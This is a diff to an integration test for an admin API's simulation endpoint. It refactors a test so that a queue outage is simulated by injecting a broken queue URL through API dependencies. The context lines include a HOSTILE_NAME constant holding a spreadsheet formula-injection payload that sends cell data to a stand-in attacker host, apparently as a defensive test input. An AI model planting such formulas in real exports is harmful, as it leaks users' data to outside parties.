@@ -17,9 +17,10 @@ import { simulating } from '../../functions/commons/simulations/simulate.js';
 import { simulationKey } from '../../functions/commons/store/items/keys.js';
 import { handler as simulationWorker } from '../../functions/simulation-worker/handler.js';
 import { localAws, localS3, publishedEvents, relayOutbox } from '../support/emulators/env.js';
-import { handler as adminApi } from '../../functions/admin-api/handler.js';
+import { adminApiWith, handler as adminApi } from '../../functions/admin-api/handler.js';
 import { admin, applicant, caller, httpEvent, invoke } from '../support/http-events.js';
 import { tableItems } from '../support/local-api.js';
+import { adminApiDepsOf } from '../support/function-deps.js';
 import { drainQueue } from '../payout/queue-driver.js';
 import {
   body,
@@ -43,13 +44,13 @@ afterEach(() => {
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
 
 /** The answer, and the request's id: the simulation's correlation id. */
-async function start(payload: unknown, as = admin(), language = 'en') {
+async function start(payload: unknown, as = admin(), language = 'en', api = adminApi) {
   const request = httpEvent('POST /v1/admin/simulations', {
     as,
     body: payload,
     headers: { 'accept-language': language },
   });
-  return { ...(await invoke(adminApi, request)), requestId: request.requestContext.requestId };
+  return { ...(await invoke(api, request)), requestId: request.requestContext.requestId };
 }
 const read = (id: string, as = admin()) => call.get('GET /v1/admin/simulations/{id}', { as, path: { id } });
 const drain = (options: { acknowledge?: (records: unknown[]) => boolean } = {}) =>
@@ -232,19 +233,18 @@ describe('a what-if simulation', () => {
   });
 
   it('is recorded FAILED at once, answered 202 saying so, when its messages cannot be queued: never RUNNING forever', async () => {
-    // The real local SQS server refuses the send: the queue named does not exist.
-    process.env.SIMULATION_QUEUE_URL = `${simulationQueueUrl}-gone`;
-    try {
-      const started = await start({ overrides: {} });
-      expect(started.status).toBe(202);
-      expect(started.body.status).toBe('FAILED');
-      const simulation = (await read(started.body.simulationId)).body;
-      expect(simulation).toMatchObject({ status: 'FAILED', completedAt: expect.any(String) });
-      expect(simulation.result).toBeUndefined();
-      expect(simulation.download).toBeUndefined();
-    } finally {
-      process.env.SIMULATION_QUEUE_URL = simulationQueueUrl;
-    }
+    // The real local SQS server refuses the send: the queue the API is composed on does not exist.
+    const outage = adminApiWith({
+      ...adminApiDepsOf(localAws().resources),
+      simulationQueue: `${simulationQueueUrl}-gone`,
+    });
+    const started = await start({ overrides: {} }, admin(), 'en', outage);
+    expect(started.status).toBe(202);
+    expect(started.body.status).toBe('FAILED');
+    const simulation = (await read(started.body.simulationId)).body;
+    expect(simulation).toMatchObject({ status: 'FAILED', completedAt: expect.any(String) });
+    expect(simulation.result).toBeUndefined();
+    expect(simulation.download).toBeUndefined();
   });
 
   it('answers 403 to a non-admin and 404 to an unknown or malformed id', async () => {
